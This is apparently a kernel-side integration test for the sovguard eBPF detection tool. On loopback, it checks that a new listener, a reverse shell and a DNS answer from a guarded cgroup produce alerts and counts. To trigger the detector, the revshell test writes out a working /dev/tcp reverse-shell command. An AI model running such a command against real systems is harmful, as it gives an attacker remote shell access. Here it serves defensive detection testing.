#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# Detection on the VM's kernel (Debian 6.1 / 6.12): the observation programs
# load and attach there, and their records reach the detectors — a listener,
# a reverse shell and a DNS answer, each made by a process of the guarded
# cgroup, come out as alerts and counts. The heuristics themselves are tested
# on the host (tests/host/detect_live.c, tests/detect/); this is the kernel's
# half on the kernels sovguard supports.
#
# Everything happens on loopback: a listener, a peer for the shell and a DNS
# responder on 127.0.0.1, the latter two outside the cgroup.
SRC=${SG_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
. "$SRC/tests/vm/lib.sh"

sg_require
ktap_plan 5

CG=/sys/fs/cgroup/sgvmd
DIR=$(mktemp -d /run/sg-detect-XXXXXX)
CTL=$SG_BUILD/sovguardctl
PIN=/sys/fs/bpf/sgvmd
PID=

mkdir -p "$CG" "$DIR/rules.d"
# The VM's own network namespace: its lo is down after boot.
ip link set lo up
printf '1.1.1.0/24 AU as13335\n' >"$DIR/data.cidr"
echo 'deny to au' >"$DIR/rules.d/t.rules"
sg_daemon_conf /sgvmd "detect.state_dir = $DIR/state
detect.firstseen.learn = 0"

cleanup()
{
	sg_bg_kill
	[ -n "$PID" ] && kill -KILL "$PID" 2>/dev/null
	"$SG_BUILD/sovguardd" --remove --stderr -c "$DIR/sovguard.conf" >/dev/null 2>&1
	rmdir "$CG" 2>/dev/null
	rm -rf "$DIR"
}
trap cleanup EXIT

# in_cg CMD...: sg_bg in the guarded cgroup.
in_cg()
{
	sg_bg sh -c 'echo $$ >"$0/cgroup.procs" && exec "$@"' "$CG" "$@"
}

listening()
{
	ss -Hln "sport = :$1" | grep -q 127.0.0.1
}

alert_with()
{
	"$CTL" alerts -j --state-dir "$DIR/state" 2>/dev/null | grep "\"heuristic\":\"$1\"" |
		grep -q -- "$2"
}

detection()
{
	"$CTL" --pin-root "$PIN" --run-dir "$DIR/run" status -j | jq -r ".detection.$1"
}

sg_daemon_start
t_observing()
{
	sg_daemon_started || return 1
	[ "$(detection enabled)" = true ] && ! grep -q "observation is off" "$DIR/log" &&
		[ -e "$PIN/obs_exec" ] && [ -e "$PIN/obs_ingress" ] ||
		{ grep -i "observ\|libbpf" "$DIR/log" | tail -n 20; return 1; }
}
ktap_check "observation loads and attaches on $(uname -r)" t_observing

t_listener()
{
	in_cg perl -MIO::Socket::INET -e \
		'IO::Socket::INET->new(LocalAddr => "127.0.0.1:7201", Listen => 1,
				       ReuseAddr => 1) or die; sleep 30'
	sg_wait_for 300 alert_with listener "127.0.0.1:7201" || { tail -n 5 "$DIR/kids.log"; false; }
}
ktap_check "a new listener in the cgroup raises a listener alert" t_listener

t_revshell()
{
	sg_bg perl -MIO::Socket::INET -e \
		'$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:7202", Listen => 1,
					    ReuseAddr => 1, Timeout => 60) or die;
		 $c = $s->accept or exit 1; print $c "sleep 2; exit\n"; sleep 5'
	sg_wait_for 300 listening 7202 || return 1
	in_cg bash -c 'exec 0<>/dev/tcp/127.0.0.1/7202 1>&0; exec sh'
	sg_wait_for 300 alert_with revshell '"dst":"127.0.0.1:7202".*"event":"exec"' ||
		{ tail -n 5 "$DIR/kids.log"; false; }
}
ktap_check "sh with a TCP socket as stdin and stdout raises a revshell alert" t_revshell

dns_more_than()
{
	[ "$(detection dns)" -gt "$1" ]
}

# A DNS answer to a process of the cgroup: the ingress program copies it.
t_dns()
{
	local before
	before=$(detection dns)
	sg_bg perl -MIO::Socket::INET -e \
		'$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:53", Proto => "udp") or die;
		 $s->recv($q, 512); $a = substr($q, 0, 2) . pack("n4", 0x8180, 1, 1, 0) .
		 pack("n", 0) . substr($q, 12) . pack("nnnNn", 0xc00c, 1, 1, 60, 4) .
		 pack("C4", 127, 0, 0, 9); $s->send($a)'
	sg_wait_for 300 listening 53 || return 1
	in_cg perl -MIO::Socket::INET -e \
		'$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:53", Proto => "udp") or die;
		 $q = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0) . "\x02c2\x07example\x04test\x00" .
		      pack("n2", 1, 1);
		 $s->send($q); $s->recv($a, 512); exit(length($a) > 12 ? 0 : 1)'
	sg_wait_for 300 dns_more_than "${before:-0}" || {
		"$CTL" --pin-root "$PIN" --run-dir "$DIR/run" status -j |
			jq -c '[.observation, .detection.dns]' | tail -c 600
		tail -n 5 "$DIR/kids.log"
		false
	}
}
ktap_check "a DNS answer to a process of the cgroup reaches the detectors" t_dns

t_counts()
{
	[ "$(detection listens)" -ge 1 ] && [ "$(detection execs)" -ge 1 ]
}
ktap_check "status counts the listen and exec records" t_counts

ktap_finish
